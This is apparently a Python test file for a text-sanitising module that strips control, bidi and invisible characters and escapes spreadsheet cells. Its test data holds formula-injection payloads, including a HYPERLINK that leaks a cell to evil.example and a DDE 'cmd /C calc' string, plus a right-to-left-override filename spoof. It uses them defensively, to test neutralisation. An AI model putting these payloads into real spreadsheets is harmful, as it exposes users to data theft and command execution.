"""The one input policy for what people type: what is kept, what goes, what is refused."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from seuranta.text import (
    CELL_LIMIT,
    NOTE_LIMIT,
    TooLong,
    bounded,
    clean,
    spreadsheet_cell,
    visible,
)

RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        pytest.param("Luonnos valmis", "Luonnos valmis", id="ordinary_text"),
        pytest.param("  rivi\n\tsisennys  ", "rivi\n\tsisennys", id="newline_and_tab_kept_trimmed"),
        pytest.param("a\x00b", "ab", id="nul_that_postgresql_loses"),
        pytest.param("rivi\x0bseuraava", "rivi\nseuraava", id="word_shift_enter_is_a_line_break"),
        pytest.param("a\r\nb\rc\x0cd\x85e\u2028f\u2029g", "a\nb\nc\nd\ne\nf\ng", id="line_breaks"),
        pytest.param("väri\x1b[31mpunainen", "väri[31mpunainen", id="terminal_escape"),
        pytest.param(f"invoice{RLO}fdp.exe", "invoicefdp.exe", id="right_to_left_override"),
        pytest.param(f"{LRI}x{PDI}\u202a\u202c\u200f", "x", id="isolates_embeddings_marks"),
        pytest.param("zero\u200bwidth\ufeff\u2060", "zerowidth", id="invisible_format"),
        pytest.param("hidden\U000e0041\U000e0042", "hidden", id="tag_characters"),
        pytest.param("👩\u200d💻 کتاب\u200cها", "👩\u200d💻 کتاب\u200cها", id="joiners_stay"),
        pytest.param("lone \ud800 surrogate\ufffe", "lone  surrogate", id="unstorable"),
        pytest.param("Pa\u0308a\u0308llikko", "P\u00e4\u00e4llikko", id="nfc"),
    ],
)
def test_clean_keeps_the_words_and_drops_what_cannot_be_seen(typed: str, kept: str) -> None:
    assert clean(typed) == kept


def test_a_note_at_the_limit_is_kept_and_one_over_it_is_refused_never_cut() -> None:
    assert bounded("x" * NOTE_LIMIT) == "x" * NOTE_LIMIT
    # Invisible characters do not count: the limit is on what is stored.
    assert bounded(" " + "x" * NOTE_LIMIT + RLO * 10 + "\n") == "x" * NOTE_LIMIT
    with pytest.raises(TooLong) as refused:
        bounded("x" * (NOTE_LIMIT + 1))
    assert (refused.value.length, refused.value.limit) == (NOTE_LIMIT + 1, NOTE_LIMIT)
    with pytest.raises(TooLong):
        bounded("päivitetty", limit=5)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param(
            '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
            '\'=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
            id="equals",
        ),
        pytest.param("+358 40 123", "'+358 40 123", id="plus"),
        pytest.param("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", id="minus"),
        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at"),
        pytest.param("\t=1+1", "'=1+1", id="tab_then_formula"),
        pytest.param("\r\n=1+1", "'=1+1", id="carriage_return_then_formula"),
        pytest.param(f"{RLO}=1+1", "'=1+1", id="invisible_then_formula"),
        pytest.param("a\x0bb", "a\nb", id="control_character_openpyxl_refuses"),
        pytest.param("Riski = pieni", "Riski = pieni", id="formula_character_inside"),
        pytest.param("", "", id="empty"),
    ],
)
def test_a_spreadsheet_cell_is_never_a_formula(text: str, cell: str) -> None:
    assert spreadsheet_cell(text) == cell


def test_a_cell_is_cut_to_what_excel_holds() -> None:
    cell = spreadsheet_cell("=" + "x" * 100_000)
    assert len(cell) == CELL_LIMIT
    assert cell.startswith("'=")
    assert cell.endswith("…")


def test_visible_leaves_spacing_and_form_alone() -> None:
    assert visible(f"  a{RLO}\u0308  ") == "  a\u0308  "


@given(st.text())
def test_clean_is_idempotent_and_leaves_no_control_or_bidi_character(typed: str) -> None:
    once = clean(typed)
    assert clean(once) == once
    assert not any(ord(c) < 32 and c not in "\n\t" for c in once)
    assert not set(once) & {RLO, LRI, PDI, "\u202a", "\u202d", "\x7f", "\x85"}
    once.encode("utf-8")  # no lone surrogate: every database can store it
